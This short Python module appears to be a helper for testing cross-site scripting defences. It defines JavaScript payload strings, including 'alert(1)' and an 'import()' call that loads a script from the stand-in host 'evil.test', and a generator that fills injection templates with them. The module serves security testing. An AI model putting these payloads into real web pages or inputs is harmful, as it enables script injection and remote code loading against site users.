"""What a vector does where it works: set ``window.pwned``, open a dialog, ask ``evil.test``."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

PAYLOADS: Final = ("window.pwned=1", "alert(1)", "alert`1`", "import('//evil.test/x.js')")

FOREIGN: Final = "//evil.test/x"


def filled(patterns: tuple[str, ...]) -> Iterator[str]:
    for pattern in patterns:
        for payload in PAYLOADS if "{p}" in pattern else PAYLOADS[:1]:
            yield pattern.format(p=payload, f=FOREIGN)
